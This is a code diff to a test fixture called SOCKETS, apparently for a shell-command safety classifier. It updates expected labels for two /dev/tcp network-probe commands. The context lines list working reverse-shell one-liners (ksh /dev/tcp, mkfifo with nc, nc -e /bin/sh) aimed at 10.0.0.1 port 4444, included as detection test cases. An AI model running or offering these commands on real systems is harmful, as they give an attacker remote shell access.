@@ -103,8 +103,9 @@ SOCKETS = [
     ("ksh -c 'ksh -i > /dev/tcp/10.0.0.1/4444 0>&1'", 'DDDDD'),
     ('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f', 'DDDDD'),
     ('nc -e /bin/sh 10.0.0.1 4444', 'DDDDD'),
-    ('exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', 'KKKDD'),
-    ('exec 3<>/dev/tcp/example.com/80; cat <&3 | grep HTTP', 'KKKDD'),
+    # (probe round 34, residuals36: N<>F parses now, a network connection as exec 3>/dev/tcp)
+    ('exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3', 'KKADD'),
+    ('exec 3<>/dev/tcp/example.com/80; cat <&3 | grep HTTP', 'KKADD'),
     ("timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/8080' && echo up", 'KKADD'),
     ('zmodload zsh/net/tcp; ztcp localhost 6379; echo ok', 'KKADD'),
 ]
